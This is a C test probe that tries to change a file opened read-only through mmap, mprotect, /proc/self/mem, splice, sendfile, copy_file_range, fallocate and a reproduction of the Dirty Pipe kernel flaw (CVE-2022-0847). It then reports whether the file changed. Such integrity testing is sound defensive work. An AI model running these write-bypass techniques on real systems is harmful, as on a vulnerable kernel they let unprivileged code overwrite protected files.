/*
 * Write a file that is open for reading, through every path but write(): shared mapping, splice, sendfile,
 * copy_file_range, /proc/self/mem, a dirtied pipe page (CVE-2022-0847), fallocate. argv[1]: the file; argv[2]: "ro" or
 * "rw", how it is opened. The last line says whether the file's bytes changed.
 */
#include "probe.h"
#include <sys/mman.h>
#include <sys/sendfile.h>

static uint64_t digest(const char *path)
{
    uint64_t sum = 1469598103934665603u;
    unsigned char block[65536];
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t got;
    while ((got = read(fd, block, sizeof block)) > 0)
        for (ssize_t i = 0; i < got; i++)
            sum = (sum ^ block[i]) * 1099511628211u;
    close(fd);
    return sum;
}

static void by_mapping(int fd)
{
    char *map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    probe("mmap_shared", map == MAP_FAILED ? -1 : 0);
    if (map != MAP_FAILED) {
        map[100] ^= 0x55;
        munmap(map, 4096);
    }
    map = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
    if (map == MAP_FAILED)
        return;
    int upgraded = mprotect(map, 4096, PROT_READ | PROT_WRITE);
    probe("mprotect", upgraded);
    int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    probe("mem_shared", memory < 0 ? -1 : pwrite(memory, "attack", 6, (off_t)(uintptr_t)map + 200));
    munmap(map, 4096);
    map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0); /* succeeds, on a private copy: the digest tells */
    if (memory >= 0 && map != MAP_FAILED && pwrite(memory, "attack", 6, (off_t)(uintptr_t)map) == 6)
        madvise(map, 4096, MADV_DONTNEED);
    if (memory >= 0)
        close(memory);
    if (map != MAP_FAILED)
        munmap(map, 4096);
}

static void by_pipe(int fd, int source)
{
    int pipes[2];
    loff_t zero = 0;
    off_t start = 0;
    if (pipe(pipes) < 0)
        return;
    if (write(pipes[1], "attack", 6) == 6)
        probe("splice", splice(pipes[0], NULL, fd, &zero, 6, 0));
    close(pipes[0]);
    close(pipes[1]);
    lseek(fd, 300, SEEK_SET);
    probe("sendfile", sendfile(fd, source, &start, 6));
    zero = 0;
    loff_t into = 400;
    probe("copy_file_range", copy_file_range(source, &zero, fd, &into, 6, 0));

    /* A page of the file lent to a pipe whose buffers were full once: writing on must not reach the file. */
    if (pipe(pipes) < 0)
        return;
    char block[4096] = {0};
    int size = fcntl(pipes[1], F_GETPIPE_SZ);
    for (int done = 0; done < size; done += 4096)
        if (write(pipes[1], block, 4096) != 4096)
            break;
    for (int done = 0; done < size; done += 4096)
        if (read(pipes[0], block, 4096) != 4096)
            break;
    zero = 4;
    if (splice(fd, &zero, pipes[1], NULL, 1, 0) == 1 && write(pipes[1], "attack", 6) != 6)
        fact("dirty_pipe", "short");
    close(pipes[0]);
    close(pipes[1]);
}

int main(int argc, char **argv)
{
    if (argc != 3)
        return 2;
    uint64_t before = digest(argv[1]);
    int fd = open(argv[1], (strcmp(argv[2], "rw") == 0 ? O_RDWR : O_RDONLY) | O_CLOEXEC);
    probe("open", fd);
    put("imagewrite.tmp", "attacked by a file");
    int source = open("imagewrite.tmp", O_RDONLY | O_CLOEXEC);
    if (fd < 0 || source < 0)
        return 1;
    by_mapping(fd);
    by_pipe(fd, source);
    probe("fallocate", fallocate(fd, 0, 0, 8192));
    probe("ftruncate", ftruncate(fd, 8192));
    unlink("imagewrite.tmp");
    fact("changed", "%s", before == digest(argv[1]) ? "no" : "yes");
    return 0;
}
